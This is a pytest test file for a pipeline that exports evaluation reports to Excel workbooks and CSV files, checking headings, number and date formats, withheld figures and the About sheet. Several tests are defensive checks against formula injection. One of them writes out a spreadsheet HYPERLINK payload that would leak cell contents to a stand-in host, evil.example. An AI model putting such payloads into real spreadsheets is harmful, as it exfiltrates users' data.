"""<report>.xlsx: a sheet "About", then a sheet per table of the report with its figures as numbers and dates, in the
report's language, never a formula."""

import io
import json
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from pipeline.cli import main
from pipeline.present import document as doc
from pipeline.present.cells import count, share, withheld
from pipeline.present.criteria import criteria_section
from pipeline.present.milestones import milestones_section
from pipeline.present.report import Report
from pipeline.present.summary import about_section, summary_section
from pipeline.present.survey import survey_section
from pipeline.project import load_project
from pipeline.render.figures_csv import figures_csv
from pipeline.render.tables import report_tables
from pipeline.render.workbook import About, neutralise, workbook

EXAMPLE, PERIOD = "helhedsplan-norrevang", "2022-2025"


def sections(report: Report) -> list[doc.Section]:
    """An end report's sections, made in this process as its notebook makes them (without the evaluator's own
    notebook sections, which the report displays after its criteria)."""
    return [
        part(report) for part in (summary_section, criteria_section, survey_section, milestones_section, about_section)
    ]


def about(language: str) -> About:
    made = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
    return About(language, "Projekt", "Ejer", "Slutrapport", None, "2022–2025", made, "ab" * 32, "1.2.3")


def book_of(parts: list[doc.Section], language: str = "da"):
    return load_workbook(io.BytesIO(workbook(report_tables(parts, language), about(language))))


def open_book(report: Report):
    return book_of(sections(report), report.t.language)


def sheet_starting(book, caption: str):
    """The sheet of the table whose caption starts so ('Tabel 1 Succeskriterier')."""
    (sheet,) = [book[name] for name in book.sheetnames if name.startswith(caption)]
    return sheet


def one_table(header: list[str], rows: list[list]) -> list[doc.Section]:
    caption = doc.Caption(label="Tabel 1", text="Prøve")
    return [doc.section("test", "Prøve", doc.table(header, rows, caption))]


@pytest.fixture
def danish() -> Report:
    return Report.open(EXAMPLE)  # anew for each test: a report numbers its tables as it makes them


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x.example")']
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Forummøde maj 2024", "2024-05-28", "K1 – flere i job", "", "'quoted", " =1"])
def test_other_text_is_left_as_it_is(text):
    assert neutralise(text) == text


def test_a_milestone_titled_as_a_formula_comes_out_as_inert_text_in_the_workbook_and_the_csv(example_copy):
    milestones = example_copy / "milestones.csv"
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
    csv_title = '"' + formula.replace('"', '""') + '"'
    milestones.write_text(
        milestones.read_text(encoding="utf-8") + f"M99,{csv_title},,Nettverk,2016-06-01,,\n", encoding="utf-8"
    )
    parts = sections(Report(load_project(example_copy)))
    sheet = sheet_starting(book_of(parts, "nb"), "Tabell 12 Milepæler i fasen Ne")
    (cell,) = [row[0] for row in sheet.iter_rows(min_row=2) if formula in str(row[0].value)]
    assert cell.data_type == "s"
    assert cell.value == "'" + formula
    csv_rows = [line for line in figures_csv(report_tables(parts, "nb")).splitlines() if "evil.example" in line]
    assert csv_rows and all(",\"'=HYPERLINK(" in line for line in csv_rows)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_heading_or_section_becomes_a_formula(start):
    text = start + "SUM(1,2)"
    caption = doc.Caption(label="Tabel 1", text="Prøve")
    book = book_of([doc.section("test", text, doc.table([text, "n"], [[text, count(danish_words(), 3)]], caption))])
    for cell in (book.worksheets[1]["A1"], book.worksheets[1]["A2"]):
        assert (cell.data_type, cell.value) == ("s", "'" + text)
    listed = [row for row in book.worksheets[0].iter_rows(values_only=True) if row[0] == book.sheetnames[1]]
    assert listed == [(book.sheetnames[1], "Tabel 1: Prøve", "'" + text)]
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def danish_words():
    from pipeline.present.i18n import Messages

    return Messages("da")


def test_nul_and_control_characters_are_stripped():
    parts = one_table(["Spørgsmål", "n"], [["Godt\x00 forhold\x0b", count(danish_words(), 3)]])
    assert book_of(parts).worksheets[1]["A2"].value == "Godt forhold"
    assert "\x00" not in figures_csv(report_tables(parts, "da"))


def test_criteria_sheet_has_the_report_headings_numbers_and_percentages(danish):
    sheet = sheet_starting(open_book(danish), "Tabel 1 Succeskriterier")
    assert [c.value for c in sheet[1]] == ["Succeskriterium", "Målt ved", "Resultat", "Mål", "Opnåelsesgrad", "Status"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == [f"{r.id} {r.title}" for r in danish.criteria]
    for row, result in zip(rows, danish.criteria):
        attainment, status = row[4], row[5]
        assert attainment.value == result.attainment
        if result.attainment is not None:
            assert attainment.data_type == "n" and attainment.number_format == "0.0%"
        assert status.value.startswith(danish.t(result.status.value))  # "Opfyldt – overopfyldt" for a target exceeded
    k1 = rows[0]  # an indicator: a number, not a share (68.4 against a target of 70)
    assert (k1[2].value, k1[3].value, k1[2].number_format) == (68.4, 70, "#,##0.0")


def test_milestone_sheets_have_real_dates_and_slippage(danish):
    sheet = sheet_starting(open_book(danish), "Tabel 7 Milepæle i fasen Ops")
    assert [c.value for c in sheet[1]] == [
        "Milepæl",
        "Planlagt",
        "Gennemført",
        "Forsinkelse (dage)",
        "Prognose",
        "Status",
    ]
    first = next(sheet.iter_rows(min_row=2))  # planned 2022-01-15, done a day early
    assert first[1].value == datetime(2022, 1, 15) and first[1].is_date and first[1].number_format == "dd.mm.yyyy"
    assert first[2].value == datetime(2022, 1, 14) and first[2].is_date
    assert (first[3].value, first[4].value, first[5].value) == (-1, None, "Gennemført til tiden")
    later = sheet_starting(open_book(Report.open(EXAMPLE)), "Tabel 10 Milepæle i fasen Af")
    forecast = [row for row in later.iter_rows(min_row=2) if row[0].value == "Afslutningsarrangement for beboerne"][0]
    assert (forecast[2].value, forecast[4].value) == (None, datetime(2026, 1, 29))  # not done; expected then


def test_a_withheld_figure_is_an_empty_cell_with_a_note_saying_why():
    t = danish_words()
    parts = one_table(
        ["Spørgsmål", "Svar (n)", "Andel"],
        [
            ["Tryghed", withheld("count", "For få svar", t("suppressed")), withheld("share", "For få svar")],
            ["Naboer", count(t, 12), share(t, 0.5)],
        ],
    )
    sheet = book_of(parts).worksheets[1]
    assert [sheet["B2"].value, sheet["C2"].value] == [None, None]
    assert sheet["B2"].comment.text == sheet["C2"].comment.text == "For få svar"
    assert (sheet["B3"].value, sheet["C3"].value, sheet["C3"].number_format) == (12, 0.5, "0.0%")


def test_headers_are_bold_frozen_and_columns_have_widths(danish):
    for sheet in open_book(danish).worksheets[1:]:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.max_row == 1 or not any(cell.font.bold for cell in sheet[2])
        assert all(8 <= sheet.column_dimensions[cell.column_letter].width <= 60 for cell in sheet[1])


def test_the_first_sheet_says_what_the_workbook_is_in_the_reports_language():
    report = Report.open("bosetting-vestfold")
    book = open_book(report)
    about_sheet = book.worksheets[0]
    assert about_sheet.title == "Om rapporten"
    facts = {row[0]: row[1] for row in about_sheet.iter_rows(max_row=8, values_only=True)}
    assert (
        facts["Laget (UTC)"] == datetime(2026, 3, 1, 9, 30)
        and facts["Inndata (SHA-256)"] == "ab" * 32
        and facts["Versjon"] == "evalreport 1.2.3"
    )
    assert all(name.startswith("Tabell ") for name in book.sheetnames[1:]) and all(
        len(name) <= 31 for name in book.sheetnames
    )
    listed = [row[0].value for row in about_sheet.iter_rows() if row[0].hyperlink]
    assert listed == book.sheetnames[1:]


def test_a_run_publishes_the_workbook_and_the_figures_beside_the_report(tmp_path):
    assert main(["--reports", str(tmp_path), "run", EXAMPLE, "--report", "end_report", "--format", "html"]) == 0
    folder = tmp_path / EXAMPLE / PERIOD
    book = load_workbook(folder / "end_report.xlsx")
    assert book.sheetnames[0] == "Om rapporten" and book.sheetnames[1].startswith("Tabel 1 ")
    assert (
        (folder / "end_report.figures.csv")
        .read_text(encoding="utf-8")
        .startswith("section,table,row,column,value,unit\n")
    )
    outputs = json.loads((folder / "run.json").read_text())["end_report"]["outputs"]
    assert {"end_report.xlsx", "end_report.figures.csv", "end_report.results.json"} <= set(outputs)
    assert not list(folder.glob(".*.tmp")), "written through a temporary file, renamed into place"
